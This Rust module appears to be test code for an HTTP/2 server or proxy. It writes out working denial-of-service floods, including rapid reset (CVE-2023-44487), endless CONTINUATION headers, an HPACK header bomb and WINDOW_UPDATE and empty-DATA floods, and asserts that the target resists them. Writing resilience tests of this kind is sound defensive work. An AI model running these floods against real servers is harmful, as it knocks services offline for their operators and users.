//! Attacks by HTTP/2 frames that are the same on each port: at the edge by a stranger, at a service by a workload.

use tokio::io::{AsyncRead, AsyncWrite};

use super::raw::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Http2, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame,
};

/// The error code ENHANCE_YOUR_CALM (RFC 9113, section 7).
const ENHANCE_YOUR_CALM: u32 = 11;

/// Streams that are cancelled as soon as they are opened (CVE-2023-44487). Returns how many were sent.
pub async fn rapid_reset<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, block: &[u8]) -> usize {
    attacker
        .flood(100_000, |number| {
            let stream = 1 + 2 * number;
            let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            [frame(HEADERS, END_HEADERS, stream, block), cancel].concat()
        })
        .await
}

/// Headers that never end (CVE-2024-27316), of fields or of nothing.
pub async fn endless_headers<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, block: &[u8], more: &[u8]) {
    attacker.send(&frame(HEADERS, 0, 1, block)).await.unwrap();
    let sent = attacker.flood(100_000, |_| frame(CONTINUATION, 0, 1, more)).await;
    assert!(sent < 100_000, "the connection was closed");
}

/// A header in the dynamic table, referenced with one byte each.
pub async fn header_bomb<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, request: &[u8]) {
    for stream in 0..50 {
        let mut block = request.to_vec();
        // With incremental indexing (RFC 7541, section 6.2.1), then 12,000 references to the entry.
        block.push(0x40);
        for text in ["x", &"y".repeat(3000)] {
            raw::length(&mut block, text.len());
            block.extend_from_slice(text.as_bytes());
        }
        block.resize(block.len() + 12_000, 0x80 | 0x3e);
        if attacker.send(&frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * stream, &block)).await.is_err() {
            break;
        }
    }
    assert_eq!(attacker.end().await, Some(ENHANCE_YOUR_CALM));
}

/// Frames that a server has to answer or to process. None of them costs it memory that a client controls.
pub fn control_frames() -> [(&'static str, Vec<u8>); 5] {
    let settings = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &65_535_u32.to_be_bytes()[..]].concat();
    [
        ("SETTINGS", frame(SETTINGS, 0, 0, &settings)),
        ("PING", frame(PING, 0, 0, b"12345678")),
        ("PRIORITY", frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        ("WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        ("unknown", frame(0xbe, 0, 0, &[0; 100])),
    ]
}

/// Sends a frame 50,000 times, and reads nothing. Returns how many hundreds were sent.
pub async fn repeat<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, bytes: &[u8]) -> usize {
    let batch = bytes.repeat(100);
    attacker.flood(500, |_| batch.clone()).await
}

/// 100 streams with a request each that never ends, and frames of no data. Returns how many were answered.
pub async fn empty_data<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, block: &[u8]) -> usize {
    for stream in 0..100 {
        attacker.send(&frame(HEADERS, END_HEADERS, 1 + 2 * stream, block)).await.unwrap();
    }
    attacker.flood(100_000, |number| frame(DATA, 0, 1 + 2 * (number % 100), b"")).await;
    attacker.answers(100).await
}

/// Asks for a large response with a window of nothing, and then for it byte by byte. Returns how many bytes came.
pub async fn tiny_increments<S: AsyncRead + AsyncWrite + Unpin>(mut attacker: Http2<S>, request: &[u8]) -> usize {
    const INCREMENTS: usize = 5_000;
    attacker.send(request).await.unwrap();
    attacker.flood(INCREMENTS, |_| frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes())).await;
    let mut received = 0;
    while received < INCREMENTS {
        match attacker.receive().await {
            Some((DATA, _, _, payload)) => received += payload.len(),
            Some(_) => {}
            None => break,
        }
    }
    received
}
